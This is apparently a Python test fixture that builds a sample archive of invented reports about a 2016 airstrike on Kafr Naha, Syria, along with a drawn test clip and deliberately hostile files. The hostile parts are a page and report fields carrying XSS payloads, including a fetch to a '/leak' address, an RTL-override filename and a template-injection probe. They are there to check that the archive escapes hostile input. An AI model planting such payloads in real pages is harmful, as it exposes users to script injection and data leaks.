"""A small real archive for the tests of the pages: reports of our own from public facts, a drawn clip, hostile files.

Public facts: UCDP GED 233681 (10 dead, Government of Syria, source SOHR, 36.168273 N 36.984502 E), Airwars RS1532
(8-15 killed, 20-25 injured, contested, 36.1658 N 36.9767 E), RS1525 (2 November) and RS1533 (5 November), and the
press of 5 November 2016 (at least 17, suspected Russian, a 43-second video credited to Aleppo24). The publishers'
names and every sentence are invented. Readings are made by hand here, so that the pages are tested by themselves.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from datetime import date
from fractions import Fraction
from pathlib import Path

import av
import numpy as np
from web_pages import TABLE

from dalil import db
from dalil.archive import Archive
from dalil.claims.search import ensure_index, index_document
from dalil.claims.store import save_document
from dalil.footage import probe
from dalil.footage.store import save_footage, save_matches
from dalil.incidents.linking import link_reading
from dalil.incidents.recordings import link_footage
from dalil.records import (
    Candidate,
    Claim,
    DateSpan,
    Document,
    FootageMatch,
    FootageMention,
    GroupToll,
    Place,
    Quote,
    Reading,
    Speaker,
    Suspect,
    Target,
    TextIncident,
    Toll,
    Victim,
    Weapon,
)

HOSTILE_NAME = 'a\n\u202egpj."><img src=x onerror=alert(1)>.html'
HOSTILE_PAGE = (
    "<!doctype html><html><head><title>Saved page</title><script>document.title='PWNED';"
    "fetch('http://203.0.113.9/leak')</script></head><body onload=\"document.body.id='PWNED'\">"
    '<img src="http://203.0.113.9/pixel.png"><svg onload="document.title=\'PWNED\'"></svg><p>Text.</p></body></html>'
)

NEWS = """\
At least 17 people were killed when aircraft struck Kafrnaha, a village west of Aleppo, on Friday evening, residents \
said. The planes were suspected to be Russian. Several infants were among the dead.

A small boy, grey with dust from head to foot, ran towards the adults and fell; the man who was filming put down his \
camera and carried him away alive.

"We heard two aircraft and then nothing at all for a long while," said Umm Khalid, a teacher, who was pulled from her \
kitchen with a broken arm.

The recording lasts 43 seconds and is credited to Aleppo24. It was made on Friday.

Raids that kill five, or fifteen, or fifty people have become everyday news. More than 300 people have been killed in \
the province since September.

Many expect an assault on the eastern districts of Aleppo within days. The Russian defence ministry denied that its \
aircraft had flown over the village.
"""

ARABIC = """\
قُتل 10 مدنيين في غارة جوية على كفر ناها غربي حلب مساء الجمعة، بحسب المرصد السوري لحقوق الإنسان الذي نسب الغارة إلى \
قوات الحكومة السورية.

وقال مسعف إن طفلة في الثالثة أُخرجت حيّة من تحت الأنقاض، وإن أمها قُتلت.

وهدّدت الحكومة السورية بتوسيع القصف على المنطقة خلال الأيام المقبلة.
"""

NOTE = """\
Between 8 and 15 civilians were killed and 20 to 25 injured in an alleged Russian airstrike on Kafr Naha on 4 November \
2016, at about 19:30. The attribution is contested: a monitor blames the Syrian government. Four homes were hit.
"""

EARLIER = """\
Three people were killed on 2 November 2016 when an aircraft hit the edge of Kafr Naha.
"""

LATER = """\
Up to four people were killed at Kafr Naha on 5 November 2016 in a further raid, said to be Russian.
"""


class Words:
    """A text whose words can be quoted by naming them."""

    def __init__(self, text: str):
        self.text = text

    def __call__(self, words: str) -> Quote:
        at = self.text.index(words)
        return Quote(at, at + len(words), words)


def kafr_naha(name: str, quote: Quote, lat: float = 36.1683, lon: float = 36.9845) -> Place:
    best = Candidate("p1", "Kafr Naha", lat, lon, ("Aleppo",), "SY", "PPL", 0.94, ("same name in another spelling",))
    return Place(name, quote, 1, 1500.0, (best,))


def day(which: date, quote: Quote, rule: str, time: str | None = None) -> DateSpan:
    return DateSpan(which, which, "day", time, quote, rule)


def claim(kind: str, status: str, quote: Quote, **values) -> Claim:
    empty = dict.fromkeys(("said_by", "when", "where", "killed", "injured", "missing", "footage"))
    lists = dict.fromkeys(("victims", "suspects", "targets", "weapons"), ())
    return Claim(type=kind, status=status, quote=quote, **{**empty, **lists, **values})


def merged(claims: list[Claim], indices: tuple[int, ...]) -> TextIncident:
    """The incident of these claims: the first value of each field, all of the lists."""
    those = [claims[i] for i in indices]

    def first(name):
        return next((v for c in those if (v := getattr(c, name)) is not None), None)

    def every(name):
        return tuple(v for c in those for v in getattr(c, name))

    fields = ("when", "where", "killed", "injured", "missing", "footage")
    lists = ("suspects", "victims", "targets", "weapons")
    return TextIncident(
        type=those[0].type,
        status="reported",
        claims=indices,
        **{name: first(name) for name in fields},
        **{name: every(name) for name in lists},
    )


@dataclass(frozen=True)
class Report:
    """A report to be put into the archive."""

    name: str
    text: str
    title: str
    publisher: str
    published: date
    lang: str
    claims: list[Claim]
    incidents: tuple[tuple[int, ...], ...]
    author: str | None = None


def news() -> Report:
    q = Words(NEWS)
    strike = claim(
        "airstrike",
        "reported",
        q(NEWS[: NEWS.index(" The planes")]),
        said_by=Speaker("residents", q("residents"), "said"),
        when=day(date(2016, 11, 4), q("Friday evening"), "weekday before publication"),
        where=kafr_naha("Kafrnaha", q("Kafrnaha")),
        killed=Toll(
            17, 17, None, q("At least 17 people"), (GroupToll("child", None, None, None, q("Several infants")),)
        ),
        suspects=(Suspect(("Russian",), "state", "suspected", None, (q("The planes were suspected to be Russian"),)),),
        weapons=(Weapon(("aircraft",), "aircraft", (q("aircraft"),)),),
    )
    infants = claim(
        "airstrike",
        "reported",
        q("Several infants were among the dead."),
        victims=(Victim(("Several infants",), None, "death", False, None, None, (q("Several infants"),)),),
    )
    boy_words = NEWS[NEWS.index("A small boy") : NEWS.index('\n\n"We heard')]
    boy = claim(
        "airstrike",
        "reported",
        q(boy_words),
        victims=(
            Victim(
                ("A small boy",), 1, "rescued", False, None, "male", (q("A small boy"), q("carried him away alive"))
            ),
        ),
        footage=FootageMention(
            43.0,
            "Aleppo24",
            day(date(2016, 11, 4), q("made on Friday"), "weekday before publication"),
            (q("The recording lasts 43 seconds"), q("credited to Aleppo24")),
        ),
    )
    teacher = claim(
        "airstrike",
        "reported",
        q(NEWS[NEWS.index('"We heard') : NEWS.index("\n\nThe recording")]),
        said_by=Speaker("Umm Khalid", q("Umm Khalid"), "said"),
        victims=(Victim(("Umm Khalid",), 1, "injury", True, None, "female", (q("Umm Khalid, a teacher"),)),),
    )
    others = [
        claim(
            "airstrike", "generic", q("Raids that kill five, or fifteen, or fifty people have become everyday news.")
        ),
        claim(
            "killing",
            "total",
            q("More than 300 people have been killed in the province since September."),
            killed=Toll(300, 300, None, q("More than 300 people")),
        ),
        claim(
            "ground_assault",
            "forecast",
            q("Many expect an assault on the eastern districts of Aleppo within days."),
            said_by=Speaker("Many", q("Many"), "expect"),
        ),
        claim(
            "airstrike",
            "denied",
            q("The Russian defence ministry denied that its aircraft had flown over the village."),
            said_by=Speaker("The Russian defence ministry", q("The Russian defence ministry"), "denied"),
        ),
    ]
    return Report(
        "2016-11-05-courier.txt",
        NEWS,
        "A boy carried out of the dust west of Aleppo",
        "The Example Courier",
        date(2016, 11, 5),
        "en",
        [strike, infants, boy, teacher, *others],
        ((0, 1, 2, 3),),
        "A. Writer",
    )


def arabic() -> Report:
    q = Words(ARABIC)
    sohr = Speaker("المرصد السوري لحقوق الإنسان", q("المرصد السوري لحقوق الإنسان"), "بحسب")
    strike = claim(
        "airstrike",
        "reported",
        q(ARABIC[: ARABIC.index("\n\nوقال")]),
        said_by=sohr,
        when=day(date(2016, 11, 4), q("مساء الجمعة"), "weekday before publication"),
        where=kafr_naha("كفر ناها", q("كفر ناها"), 36.168273, 36.984502),
        killed=Toll(10, 10, 10, q("10 مدنيين"), (GroupToll("civilian", 10, 10, 10, q("10 مدنيين")),)),
        suspects=(
            Suspect(
                ("قوات الحكومة السورية",),
                "state",
                "accused",
                "المرصد السوري لحقوق الإنسان",
                (q("قوات الحكومة السورية"),),
            ),
        ),
    )
    girl = claim(
        "airstrike",
        "reported",
        q(ARABIC[ARABIC.index("وقال مسعف") : ARABIC.index("\n\nوهدّدت")]),
        said_by=Speaker("مسعف", q("مسعف"), "قال"),
        victims=(
            Victim(("طفلة في الثالثة",), 1, "rescued", False, 3, "female", (q("طفلة في الثالثة"),)),
            Victim(("أمها",), 1, "death", False, None, "female", (q("أمها"),)),
        ),
    )
    threat = claim(
        "shelling",
        "threatened",
        q(ARABIC[ARABIC.index("وهدّدت") :].strip()),
        said_by=Speaker("الحكومة السورية", q("الحكومة السورية بتوسيع"), "هدّدت"),
    )
    threat = replace(threat, said_by=Speaker("الحكومة السورية", None, "هدّدت"))
    return Report(
        "تقرير-كفر-ناها.txt",
        ARABIC,
        "عشرة قتلى في غارة على كفر ناها",
        "صحيفة المثال",
        date(2016, 11, 5),
        "ar",
        [strike, girl, threat],
        ((0, 1),),
    )


def note() -> Report:
    q = Words(NOTE)
    strike = claim(
        "airstrike",
        "reported",
        q(NOTE[: NOTE.index(" The attribution")]),
        when=day(date(2016, 11, 4), q("4 November 2016"), "full date", "19:30"),
        where=kafr_naha("Kafr Naha", q("Kafr Naha"), 36.1658, 36.9767),
        killed=Toll(8, None, 15, q("Between 8 and 15 civilians")),
        injured=Toll(20, None, 25, q("20 to 25 injured")),
        suspects=(
            Suspect(("Russian",), "state", "suspected", None, (q("alleged Russian"),)),
            Suspect(("the Syrian government",), "state", "accused", "a monitor", (q("the Syrian government"),)),
        ),
        targets=(Target(("Four homes",), "home", (q("Four homes"),)),),
    )
    return Report(
        "note-2016-11-04.md",
        NOTE,
        "Monitoring note, 4 November 2016",
        "Example Monitor",
        date(2016, 11, 20),
        "en",
        [strike],
        ((0,),),
    )


def small(name: str, text: str, title: str, which: date, said: str, toll: Toll, suspects=()) -> Report:
    q = Words(text)
    toll = replace(toll, quote=q(toll.quote.text))
    strike = claim(
        "airstrike",
        "reported",
        q(text.strip()),
        when=day(which, q(said), "full date"),
        where=kafr_naha("Kafr Naha", q("Kafr Naha")),
        killed=toll,
        suspects=tuple(Suspect((s,), "state", "stated", None, (q(s),)) for s in suspects),
    )
    return Report(name, text, title, "Example Monitor", date(2016, 11, 20), "en", [strike], ((0,),))


def hostile() -> Report:
    text = 'On 9 November 2016 </p><script>alert(1)</script> hit "><img src=x onerror=alert(2)>, killing 2 {{ 7*7 }}.'
    q = Words(text)
    strike = claim(
        "shelling",
        "reported",
        q(text),
        said_by=Speaker("<b>bold</b>", None, "said"),
        when=day(date(2016, 11, 9), q("9 November 2016"), "full date"),
        where=Place('"><img src=x onerror=alert(2)>', q('"><img src=x onerror=alert(2)>'), 1, None, ()),
        killed=Toll(2, 2, 2, q("killing 2")),
        suspects=(
            Suspect(("<script>alert(1)</script>",), "group", "stated", "<i>x</i>", (q("<script>alert(1)</script>"),)),
        ),
        victims=(Victim(("<u>someone</u>",), 1, "unknown", False, None, None, (q("hit"),)),),
    )
    return Report(
        HOSTILE_NAME,
        HOSTILE_PAGE,
        "<script>alert('title')</script>",
        "</title><script>alert(3)</script>",
        date(2016, 11, 10),
        "en",
        [strike],
        ((0,),),
        "javascript:alert(4)",
    )


REPORTS = (
    news,
    arabic,
    note,
    lambda: small("rs1525.txt", EARLIER, "Monitoring note, 2 November 2016", date(2016, 11, 2), "2 November 2016",
                  Toll(3, 3, 3, Quote(0, 0, "Three people"))),
    lambda: small("rs1533.txt", LATER, "Monitoring note, 5 November 2016", date(2016, 11, 5), "5 November 2016",
                  Toll(None, None, 4, Quote(0, 0, "Up to four people")), ("Russian",)),
)  # fmt: skip


def draw_clip(
    path: Path,
    seconds: float = 43.0,
    comment: str | None = "Drawn by a script for tests: shapes and a tone, nobody is in it.",
) -> None:
    """A drawn clip in colour with a tone: moving shapes, four pictures a second."""
    rate = 4
    with av.open(str(path), "w") as out:
        out.metadata["comment"] = comment or ""
        out.metadata["artist"] = "Aleppo24"
        out.metadata["creation_time"] = "2016-11-04T17:40:00.000000Z"
        video = out.add_stream("libx264", rate=rate, options={"crf": "30", "preset": "ultrafast"})
        video.width, video.height, video.pix_fmt = 320, 180, "yuv420p"
        audio = out.add_stream("aac", rate=22050, layout="mono")
        for i in range(int(seconds * rate)):
            picture = np.full((180, 320, 3), (196, 178, 150), np.uint8)
            picture[120:, :] = (120, 108, 96)
            x = 20 + i * 260 // int(seconds * rate)
            picture[60:150, x : x + 34] = (190, 60, 40)
            picture[30:60, 240:300] = (60, 110, 160)
            frame = av.VideoFrame.from_ndarray(picture, format="rgb24")
            frame.pts, frame.time_base = i, Fraction(1, rate)
            out.mux(video.encode(frame))
        out.mux(video.encode(None))
        step = 1024
        for start in range(0, int(seconds * 22050), step):
            wave = (np.sin((np.arange(step) + start) * 2 * np.pi * 330 / 22050) * 0.2).astype(np.float32)
            sound = av.AudioFrame.from_ndarray(wave.reshape(1, -1), format="fltp", layout="mono")
            sound.sample_rate, sound.pts, sound.time_base = 22050, start, Fraction(1, 22050)
            out.mux(audio.encode(sound))
        out.mux(audio.encode(None))


def put_report(archive: Archive, folder: Path, report: Report, text: str | None = None) -> str:
    """The report's bytes, its text and its reading stand in the archive; its hash."""
    path = folder / report.name.replace("\n", "\n")
    path.write_text(report.text, "utf-8")
    sha256 = archive.capture_file(path, by="a tester").object.sha256
    put_text(archive, sha256, report, text)
    return sha256


def put_text(archive: Archive, sha256: str, report: Report, text: str | None = None) -> None:
    """The text and reading of an object that is captured stand in the archive."""
    document = Document(
        sha256,
        text or report.text,
        report.title,
        report.author,
        report.publisher,
        report.published,
        report.lang,
        None,
        (),
        (),
    )
    reading = Reading(
        None,
        report.published,
        report.lang,
        report.title,
        report.author,
        report.publisher,
        tuple(report.claims),
        tuple(merged(report.claims, indices) for indices in report.incidents),
    )
    with archive.engine.begin() as conn:
        save_document(conn, document, reading)
        ensure_index(conn)
        index_document(conn, document)
        link_reading(conn, document, reading)


def put_clip(archive: Archive, path: Path, *, linked: bool = True) -> str:
    """The recording's bytes, its record and its stills stand in the archive; its hash."""
    sha256 = archive.capture_file(path, by="a tester").object.sha256
    footage = probe(archive.object_path(sha256), object=sha256, derived=archive.derived)
    with archive.engine.begin() as conn:
        save_footage(conn, footage)
        if linked:
            link_footage(conn, footage)
    return sha256


def put_match(archive: Archive, excerpt: str, whole: str) -> None:
    """It is on record that all of `excerpt` is seconds 20 to 26 of `whole`."""
    match = FootageMatch(
        excerpt, whole, "clip", "same_recording", 0.0, 6.0, 20.0, 26.0, 0.97, False, 1.0, 20.0, ("captioned",),
        (1.0, 0.0, 0.0, 0.0, 1.0, 0.0), 240, 0.96, 0.91, None, False,
    )  # fmt: skip
    with archive.engine.begin() as conn:
        save_matches(conn, excerpt, [match])


@dataclass(frozen=True)
class Made:
    """Where things are in a made archive."""

    path: Path
    news: str
    arabic: str
    clip: str
    hostile: str
    incident: str
    hostile_incident: str


def make(folder: Path) -> Made:
    """The whole archive at `folder`/archive."""
    source = folder / "source"
    source.mkdir(parents=True)
    with Archive.create(folder / "archive", "Kafr Naha, a test") as archive:
        hashes = [put_report(archive, source, report()) for report in REPORTS]
        bad = hostile()
        bad_hash = put_report(archive, source, bad, text=bad.claims[0].quote.text)
        draw_clip(source / "clip.mp4")
        clip = put_clip(archive, source / "clip.mp4")
        draw_clip(source / "excerpt.mp4", seconds=6)
        excerpt = put_clip(archive, source / "excerpt.mp4", linked=False)
        put_match(archive, excerpt, clip)
        (source / "their-list.csv").write_text(TABLE, "utf-8")
        archive.capture_file(source / "their-list.csv", by="a tester")
        with archive.engine.connect() as conn:
            rows = dict(
                conn.execute(db.account.select().with_only_columns(db.account.c.sha256, db.account.c.incident)).all()
            )
    return Made(folder / "archive", hashes[0], hashes[1], clip, bad_hash, rows[hashes[0]], rows[bad_hash])
